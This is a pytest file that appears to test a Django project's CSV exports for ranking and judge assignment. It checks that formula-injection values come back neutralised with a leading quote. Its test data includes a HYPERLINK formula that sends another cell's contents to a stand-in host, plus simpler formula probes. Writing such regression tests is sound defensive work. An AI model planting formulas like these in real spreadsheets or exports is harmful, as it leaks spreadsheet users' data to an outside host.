"""Formula injection (issue 17) in the CSV files of ``laurel rank`` and ``laurel assign``:
entry and judge names a spreadsheet would run come back as text starting with ``'``, and
scores — negative ones too — stay plain numbers."""

import csv
import io

from django.core.management import call_command

INJECTIONS = ['=HYPERLINK("http://x?d="&C2,"x")', "+1+1", "-2+3", "@SUM(A1)"]


def csv_file(path, rows) -> str:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return str(path)


def run(*args) -> list[list[str]]:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_the_ranking_neutralises_entries_and_keeps_negative_scores_numbers(tmp_path):
    judges = ["J1", "J2", "J3"]
    scores = [
        [entry, judge, 5 - 3 * n + k]  # entry 3's mean is -3
        for n, entry in enumerate(INJECTIONS)
        for k, judge in enumerate(judges)
    ]
    path = csv_file(tmp_path / "scores.csv", [["entry", "judge", "score"], *scores])

    rows = run("rank", path, "--method", "mean")

    assert rows[0] == ["rank", "entry", "score", "low", "high", "reviews"]
    assert [row[1] for row in rows[1:]] == ["'" + text for text in INJECTIONS]
    assert [row[2] for row in rows[1:]] == ["6.0000", "3.0000", "0.0000", "-3.0000"]


def test_the_assignment_neutralises_entries_and_judges(tmp_path):
    entries = csv_file(tmp_path / "entries.csv", [["entry"], *([text] for text in INJECTIONS)])
    judges = csv_file(tmp_path / "judges.csv", [["judge"], ["=1+1"], ["@judge"]])

    rows = run("assign", entries, judges, "--per-entry", "2")

    assert rows[0] == ["entry", "judge"]
    assert {row[0] for row in rows[1:]} == {"'" + text for text in INJECTIONS}
    assert {row[1] for row in rows[1:]} == {"'=1+1", "'@judge"}
